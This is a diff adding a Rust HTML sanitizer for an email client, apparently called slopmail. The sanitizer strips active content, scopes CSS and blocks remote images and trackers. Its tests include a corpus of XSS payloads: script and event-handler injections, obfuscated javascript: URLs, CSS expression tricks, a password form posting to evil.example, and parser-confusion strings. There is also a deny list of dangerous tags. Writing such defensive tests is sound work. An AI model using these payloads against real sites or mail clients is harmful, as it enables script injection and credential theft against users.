@@ -0,0 +1,503 @@
+use std::cell::RefCell;
+use std::collections::BTreeMap;
+
+use anyhow::Result;
+use lol_html::html_content::{ContentType, Element};
+use lol_html::{doc_comments, doctype, element, rewrite_str, text, RewriteStrSettings};
+use serde::Serialize;
+
+use super::{content, css, remote};
+
+/// Class of the element the frontend renders a message into. Message CSS is
+/// scoped beneath it.
+pub const CONTAINER_CLASS: &str = "slopmail-message";
+
+/// Prefix given to the message's own class and id names so they cannot
+/// match the app's.
+pub const NAME_PREFIX: &str = "m-";
+
+/// Class given to images whose remote source was held back, so the
+/// frontend can draw a placeholder.
+pub const BLOCKED_IMAGE_CLASS: &str = "slopmail-blocked-image";
+
+/// Tags kept as they are, minus any attribute not allowed below.
+const ALLOWED_TAGS: &[&str] = &[
+    "a", "abbr", "address", "article", "aside", "b", "bdi", "bdo", "big", "blockquote", "br",
+    "caption", "center", "cite", "code", "col", "colgroup", "dd", "del", "details", "dfn", "div",
+    "dl", "dt", "em", "figcaption", "figure", "font", "footer", "h1", "h2", "h3", "h4", "h5", "h6",
+    "header", "hr", "i", "img", "ins", "kbd", "li", "main", "mark", "nav", "ol", "p", "pre", "q",
+    "rp", "rt", "ruby", "s", "samp", "section", "small", "span", "strike", "strong", "style", "sub",
+    "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "tt", "u", "ul",
+    "var", "wbr",
+];
+
+/// Tags removed together with everything inside them: active content,
+/// embedded documents, form controls, media and foreign markup.
+const DROPPED_TAGS: &[&str] = &[
+    "applet", "audio", "base", "button", "canvas", "datalist", "dialog", "embed", "frame",
+    "frameset", "iframe", "input", "link", "math", "meta", "noembed", "noframes", "noscript",
+    "object", "optgroup", "option", "output", "plaintext", "portal", "script", "select", "source",
+    "svg", "template", "textarea", "title", "track", "video", "xmp",
+];
+
+/// Document structure that is unwrapped without being worth reporting.
+const STRUCTURE_TAGS: &[&str] = &["html", "head", "body"];
+
+const ALLOWED_ATTRIBUTES: &[&str] = &[
+    "align", "alt", "bgcolor", "border", "cellpadding", "cellspacing", "class", "color", "colspan",
+    "datetime", "dir", "face", "height", "hspace", "id", "lang", "open", "rowspan", "size", "span",
+    "start", "style", "summary", "title", "type", "valign", "value", "vspace", "width",
+];
+
+/// Attributes holding URLs, allowed only on these tags.
+const URL_ATTRIBUTES: &[(&str, &str)] = &[
+    ("a", "href"),
+    ("img", "src"),
+    ("table", "background"),
+    ("td", "background"),
+    ("th", "background"),
+];
+
+/// Inline image types. SVG is left out because it can carry script.
+const DATA_IMAGE_TYPES: &[&str] = &["image/png", "image/gif", "image/jpeg", "image/jpg", "image/webp"];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
+#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
+pub enum RemovalKind {
+    Element,
+    Attribute,
+    Css,
+    Link,
+}
+
+/// Something the sanitizer took out, e.g. 3 `onclick` attributes.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Removal {
+    pub kind: RemovalKind,
+    pub name: String,
+    pub count: usize,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct SanitizedHtml {
+    pub html: String,
+    pub removed: Vec<Removal>,
+    pub remote_blocked: usize,   // Remote images and CSS resources held back
+    pub trackers_blocked: usize, // Tracking pixels and URLs, blocked even when remote content loads
+}
+
+#[derive(Debug, Clone, Default)]
+pub struct RenderOptions {
+    /// Load remote images instead of showing placeholders.
+    pub load_remote: bool,
+    /// Addresses the message was sent to, for spotting per-recipient URLs.
+    pub recipients: Vec<String>,
+    /// The message being rendered. Its `cid:` references are pointed at the
+    /// local content scheme.
+    pub email_id: Option<i64>,
+}
+
+/// Tally of removals, keyed by kind and name.
+#[derive(Debug, Default)]
+pub struct Removals(BTreeMap<(RemovalKind, String), usize>);
+
+impl Removals {
+    pub fn add(&mut self, kind: RemovalKind, name: &str) {
+        *self.0.entry((kind, name.to_string())).or_default() += 1;
+    }
+
+    pub fn into_vec(self) -> Vec<Removal> {
+        self.0
+            .into_iter()
+            .map(|((kind, name), count)| Removal { kind, name, count })
+            .collect()
+    }
+}
+
+/// State shared by the element and CSS passes.
+pub struct Context<'a> {
+    pub options: &'a RenderOptions,
+    pub removed: Removals,
+    pub remote_blocked: usize,
+    pub trackers_blocked: usize,
+}
+
+impl Context<'_> {
+    /// Whether a remote URL may be fetched. Blocked URLs are counted.
+    pub fn allow_remote(&mut self, url: &str) -> bool {
+        if remote::is_tracker(url, &self.options.recipients) {
+            self.trackers_blocked += 1;
+            false
+        } else if !self.options.load_remote {
+            self.remote_blocked += 1;
+            false
+        } else {
+            true
+        }
+    }
+
+    /// Where a `cid:` URL's part is served from, if it is one.
+    pub fn local_url(&self, url: &str) -> Option<String> {
+        content::rewrite_cid(self.options.email_id?, url)
+    }
+}
+
+/// Sanitizes a message's HTML for display inside an element with class
+/// [`CONTAINER_CLASS`]. The result is a fragment meant for `innerHTML`.
+pub fn sanitize(html: &str, options: &RenderOptions) -> Result<SanitizedHtml> {
+    let cx = RefCell::new(Context {
+        options,
+        removed: Removals::default(),
+        remote_blocked: 0,
+        trackers_blocked: 0,
+    });
+    let stylesheet = RefCell::new(String::new());
+
+    let output = rewrite_str(
+        html,
+        RewriteStrSettings {
+            element_content_handlers: vec![
+                element!("*", |el| {
+                    clean_element(el, &mut cx.borrow_mut());
+                    Ok(())
+                }),
+                text!("style", |chunk| {
+                    stylesheet.borrow_mut().push_str(chunk.as_str());
+                    if chunk.last_in_text_node() {
+                        let scoped = css::scope_stylesheet(&stylesheet.take(), &mut cx.borrow_mut());
+                        chunk.replace(&scoped, ContentType::Html);
+                    } else {
+                        chunk.remove();
+                    }
+                    Ok(())
+                }),
+            ],
+            document_content_handlers: vec![
+                doc_comments!(|comment| {
+                    comment.remove();
+                    Ok(())
+                }),
+                doctype!(|doctype| {
+                    doctype.remove();
+                    Ok(())
+                }),
+            ],
+            ..RewriteStrSettings::new()
+        },
+    )?;
+
+    let cx = cx.into_inner();
+    Ok(SanitizedHtml {
+        html: output,
+        removed: cx.removed.into_vec(),
+        remote_blocked: cx.remote_blocked,
+        trackers_blocked: cx.trackers_blocked,
+    })
+}
+
+fn clean_element(el: &mut Element, cx: &mut Context) {
+    let tag = el.tag_name();
+    if DROPPED_TAGS.contains(&tag.as_str()) {
+        let is_refresh = tag == "meta"
+            && el.get_attribute("http-equiv").is_some_and(|v| v.trim().eq_ignore_ascii_case("refresh"));
+        if is_refresh {
+            cx.removed.add(RemovalKind::Element, "meta refresh");
+        } else if tag != "meta" && tag != "title" {
+            cx.removed.add(RemovalKind::Element, &tag);
+        }
+        el.remove();
+        return;
+    }
+    if !ALLOWED_TAGS.contains(&tag.as_str()) {
+        if !STRUCTURE_TAGS.contains(&tag.as_str()) {
+            cx.removed.add(RemovalKind::Element, &tag);
+        }
+        el.remove_and_keep_content();
+        return;
+    }
+
+    let mut placeholder = false;
+    if tag == "img" {
+        if let Some(src) = el.get_attribute("src").map(|src| strip_url(&src)).filter(|src| remote::is_remote(src)) {
+            let attribute = |name| el.get_attribute(name);
+            let invisible = remote::is_invisible(attribute("width").as_deref(), attribute("height").as_deref(), attribute("style").as_deref());
+            if invisible || remote::is_tracker(&src, &cx.options.recipients) {
+                cx.trackers_blocked += 1;
+                el.remove();
+                return;
+            }
+            if !cx.options.load_remote {
+                cx.remote_blocked += 1;
+                el.remove_attribute("src");
+                placeholder = true;
+            }
+        }
+    }
+
+    let attributes: Vec<(String, String)> = el.attributes().iter().map(|a| (a.name(), a.value())).collect();
+    for (name, value) in attributes {
+        let is_url = URL_ATTRIBUTES.contains(&(tag.as_str(), name.as_str()));
+        if tag == "style" || !(is_url || ALLOWED_ATTRIBUTES.contains(&name.as_str())) {
+            cx.removed.add(RemovalKind::Attribute, &name);
+            el.remove_attribute(&name);
+            continue;
+        }
+
+        let cleaned = match name.as_str() {
+            "style" => Some(css::clean_declarations(&value, cx)).filter(|style| !style.is_empty()),
+            "class" => Some(prefix_names(&value)),
+            "id" => Some(format!("{}{}", NAME_PREFIX, value.trim())),
+            "href" => clean_link(&value),
+            "src" | "background" => {
+                let url = strip_url(&value);
+                if is_safe_image_url(&url) && remote::is_remote(&url) && !cx.allow_remote(&url) {
+                    el.remove_attribute(&name);
+                    continue;
+                }
+                match cx.local_url(&url) {
+                    Some(local) => Some(local),
+                    None => is_safe_image_url(&url).then_some(url),
+                }
+            }
+            _ => Some(value.clone()),
+        };
+        match cleaned {
+            Some(cleaned) if cleaned == value => {}
+            Some(cleaned) => el.set_attribute(&name, &cleaned).expect("attribute name came from the element"),
+            None => {
+                let kind = if is_url { RemovalKind::Link } else { RemovalKind::Css };
+                cx.removed.add(kind, &name);
+                el.remove_attribute(&name);
+            }
+        }
+    }
+
+    if placeholder {
+        let class = match el.get_attribute("class") {
+            Some(class) => format!("{} {}", class, BLOCKED_IMAGE_CLASS),
+            None => BLOCKED_IMAGE_CLASS.to_string(),
+        };
+        el.set_attribute("class", &class).expect("valid attribute name");
+    }
+
+    if tag == "a" && el.has_attribute("href") && !el.get_attribute("href").is_some_and(|h| h.starts_with('#')) {
+        el.set_attribute("target", "_blank").expect("valid attribute name");
+        el.set_attribute("rel", "noopener noreferrer").expect("valid attribute name");
+    }
+}
+
+/// Prefixes every class in a `class` attribute.
+fn prefix_names(classes: &str) -> String {
+    classes
+        .split_ascii_whitespace()
+        .map(|class| format!("{}{}", NAME_PREFIX, class))
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+/// Removes the whitespace and control characters browsers ignore inside
+/// URLs, so "java\tscript:" cannot slip past a scheme check.
+pub fn strip_url(url: &str) -> String {
+    url.chars().filter(|c| !c.is_ascii_whitespace() && !c.is_control()).collect()
+}
+
+/// Lowercased scheme of a URL, or `None` for a relative one.
+pub fn scheme(url: &str) -> Option<String> {
+    let end = url.find([':', '/', '?', '#'])?;
+    (url.as_bytes()[end] == b':' && end > 0).then(|| url[..end].to_ascii_lowercase())
+}
+
+/// The `href` to keep for a link. Fragments point at the prefixed ids;
+/// relative links are dropped since a message has no base to resolve them
+/// against.
+fn clean_link(href: &str) -> Option<String> {
+    let href = strip_url(href);
+    if let Some(fragment) = href.strip_prefix('#') {
+        return Some(format!("#{}{}", NAME_PREFIX, fragment));
+    }
+    match scheme(&href)?.as_str() {
+        "http" | "https" | "mailto" | "tel" => Some(href),
+        _ => None,
+    }
+}
+
+/// Whether an image may be loaded from `url`: the web, a `cid:` part of the
+/// message, or an inline raster image.
+pub fn is_safe_image_url(url: &str) -> bool {
+    match scheme(url).as_deref() {
+        Some("http") | Some("https") | Some("cid") => true,
+        Some("data") => {
+            let media_type = url[5..].split([';', ',']).next().unwrap_or("").to_ascii_lowercase();
+            DATA_IMAGE_TYPES.contains(&media_type.as_str())
+        }
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn sanitize_loading(html: &str) -> SanitizedHtml {
+        sanitize(html, &RenderOptions { load_remote: true, ..Default::default() }).unwrap()
+    }
+
+    fn clean(html: &str) -> String {
+        sanitize_loading(html).html
+    }
+
+    fn removed(html: &str) -> Vec<(RemovalKind, String)> {
+        sanitize_loading(html).removed.into_iter().map(|r| (r.kind, r.name)).collect()
+    }
+
+    #[test]
+    fn test_keeps_ordinary_markup() {
+        let html = r#"<table width="600" cellpadding="0"><tr><td align="center"><p>Hi <b>there</b></p><img src="https://example.com/a.png" alt="A"></td></tr></table>"#;
+        assert_eq!(clean(html), html);
+        assert!(removed(html).is_empty());
+    }
+
+    #[test]
+    fn test_hostile_corpus() {
+        // Each entry must come out without any trace of the needle
+        let corpus: &[(&str, &str)] = &[
+            ("<script>alert(1)</script>", "alert"),
+            ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil"),
+            ("<img src=x onerror=alert(1)>", "onerror"),
+            ("<body onload=alert(1)>", "onload"),
+            ("<svg><script>alert(1)</script></svg>", "alert"),
+            ("<svg onload=alert(1)>", "onload"),
+            ("<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "javascript"),
+            ("<iframe src=\"https://evil.example\"></iframe>", "evil"),
+            ("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>", "alert"),
+            ("<object data=\"evil.swf\"></object>", "evil"),
+            ("<embed src=\"evil.swf\">", "evil"),
+            ("<a href=\"javascript:alert(1)\">x</a>", "javascript"),
+            ("<a href=\"JaVaScRiPt:alert(1)\">x</a>", "alert"),
+            ("<a href=\"java&#x09;script:alert(1)\">x</a>", "alert"),
+            ("<a href=\" &#14; javascript:alert(1)\">x</a>", "alert"),
+            ("<a href=\"vbscript:msgbox(1)\">x</a>", "msgbox"),
+            ("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", "data:"),
+            ("<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">", "svg"),
+            ("<form action=\"https://evil.example\"><input name=pw type=password></form>", "evil"),
+            ("<button formaction=\"https://evil.example\">go</button>", "evil"),
+            ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "evil"),
+            ("<base href=\"https://evil.example/\">", "evil"),
+            ("<link rel=stylesheet href=\"https://evil.example/x.css\">", "evil"),
+            ("<div style=\"background:url(javascript:alert(1))\">x</div>", "javascript"),
+            ("<div style=\"width:expression(alert(1))\">x</div>", "expression"),
+            ("<div style=\"behavior:url(evil.htc)\">x</div>", "evil"),
+            ("<div style=\"-moz-binding:url(evil.xml#x)\">x</div>", "evil"),
+            ("<div style=\"background:u\\72l(javascript:alert(1))\">x</div>", "alert"),
+            ("<div style=\"position:fixed;top:0;left:0\">fake dialog</div>", "fixed"),
+            ("<style>@import url(https://evil.example/x.css);</style>", "evil"),
+            ("<style>body ~ *{opacity:0.11}</style>", "0.11"),
+            ("<style>body + div{opacity:0.12}</style>", "0.12"),
+            ("<style>:root ~ p{opacity:0.13}</style>", "0.13"),
+            ("<style>html > body ~ div, p{opacity:0.14}</style>", "~"),
+            ("<style>p{color:red}</style><style></style><p>x</p><style>a{x:y}</style></style><script>alert(1)</script>", "alert"),
+            ("<style></style><img src=x onerror=alert(1)></style>", "onerror"),
+            ("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "onerror"),
+            ("<textarea></textarea><img src=x onerror=alert(1)></textarea>", "onerror"),
+            ("<template><img src=x onerror=alert(1)></template>", "onerror"),
+            ("<!--<img src=x onerror=alert(1)>-->", "onerror"),
+            ("<a href=\"https://example.com\" ping=\"https://evil.example\">x</a>", "evil"),
+            ("<img srcset=\"https://evil.example/x.png 2x\">", "evil"),
+            ("<div data-bind=\"evil\">x</div>", "evil"),
+            ("<plaintext><img src=x onerror=alert(1)>", "onerror"),
+            ("<xmp><img src=x onerror=alert(1)></xmp>", "onerror"),
+        ];
+        for (html, needle) in corpus {
+            let output = clean(html);
+            assert!(
+                !output.to_ascii_lowercase().contains(needle),
+                "{:?} survived in {:?} -> {:?}",
+                needle,
+                html,
+                output
+            );
+        }
+    }
+
+    #[test]
+    fn test_reports_removals() {
+        let html = "<meta http-equiv=refresh content=0><script>a</script><script>b</script>\
+                    <form><p onclick=x onmouseover=y>hi</p></form><a href=\"javascript:x\">x</a>";
+        assert_eq!(
+            removed(html),
+            vec![
+                (RemovalKind::Element, "form".to_string()),
+                (RemovalKind::Element, "meta refresh".to_string()),
+                (RemovalKind::Element, "script".to_string()),
+                (RemovalKind::Attribute, "onclick".to_string()),
+                (RemovalKind::Attribute, "onmouseover".to_string()),
+                (RemovalKind::Link, "href".to_string()),
+            ]
+        );
+        let counts: Vec<usize> = sanitize_loading(html).removed.iter().map(|r| r.count).collect();
+        assert_eq!(counts, vec![1, 1, 2, 1, 1, 1]);
+        // The form's content stays
+        assert_eq!(clean("<form><p>hi</p></form>"), "<p>hi</p>");
+    }
+
+    #[test]
+    fn test_links_open_externally() {
+        assert_eq!(
+            clean("<a href=\" https://example.com/a?b=1 \">x</a>"),
+            "<a href=\"https://example.com/a?b=1\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>"
+        );
+        assert_eq!(clean("<a href=\"mailto:a@example.com\" target=\"_self\">x</a>"), "<a href=\"mailto:a@example.com\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>");
+        assert_eq!(clean("<a href=\"#top\">x</a><h1 id=\"top\">t</h1>"), "<a href=\"#m-top\">x</a><h1 id=\"m-top\">t</h1>");
+        assert_eq!(clean("<a href=\"/relative\">x</a>"), "<a>x</a>");
+    }
+
+    #[test]
+    fn test_scopes_css() {
+        let output = clean(
+            "<html><head><style>body{margin:0} .title, #main > p {color:red;position:fixed} \
+             @media (max-width:600px){td{display:block}}</style></head>\
+             <body><div class=\"title big\">x</div></body></html>",
+        );
+        assert_eq!(
+            output,
+            "<style>.slopmail-message{margin:0}.slopmail-message .m-title, .slopmail-message #m-main > p{color:red}\
+             @media (max-width:600px){.slopmail-message td{display:block}}</style>\
+             <div class=\"m-title m-big\">x</div>"
+        );
+    }
+
+    #[test]
+    fn test_blocks_remote_content() {
+        let html = r#"<p style="background:url(https://cdn.example.com/bg.png)">Hi</p>
+            <img src="https://cdn.example.com/logo.png" alt="Logo" width="120" class="logo">
+            <img src="https://news.example.com/spacer.gif" width="1" height="1">
+            <img src="https://mailtrack.io/trace/mail/1.png" alt="">
+            <img src="https://news.example.com/p.png?r=carol@example.com">
+            <img src="cid:logo@example.com">
+            <table background="https://cdn.example.com/bg.jpg"><tr><td>x</td></tr></table>"#;
+        let options = RenderOptions { load_remote: false, recipients: vec!["carol@example.com".to_string()], email_id: Some(9) };
+        let blocked = sanitize(html, &options).unwrap();
+        assert_eq!((blocked.remote_blocked, blocked.trackers_blocked), (3, 3));
+        assert!(!blocked.html.contains("https://"), "{}", blocked.html);
+        assert!(blocked.html.contains(r#"<img alt="Logo" width="120" class="m-logo slopmail-blocked-image">"#));
+        assert!(blocked.html.contains(r#"<img src="slopmail-content://message/9/cid/logo%40example%2Ecom">"#));
+        assert!(blocked.html.contains(r#"<p style="background:none">"#));
+
+        // Trusted senders get their images, but never the trackers
+        let options = RenderOptions { load_remote: true, ..options };
+        let loaded = sanitize(html, &options).unwrap();
+        assert_eq!((loaded.remote_blocked, loaded.trackers_blocked), (0, 3));
+        assert!(loaded.html.contains("https://cdn.example.com/logo.png"));
+        assert!(!loaded.html.contains("mailtrack") && !loaded.html.contains("spacer"));
+    }
+
+    #[test]
+    fn test_image_urls() {
+        assert!(is_safe_image_url("https://example.com/a.png"));
+        assert!(is_safe_image_url("cid:part1@example.com"));
+        assert!(is_safe_image_url("data:image/png;base64,iVBORw0KGgo="));
+        assert!(!is_safe_image_url("data:image/svg+xml,<svg/>"));
+        assert!(!is_safe_image_url("file:///etc/passwd"));
+        assert!(!is_safe_image_url("relative.png"));
+    }
+}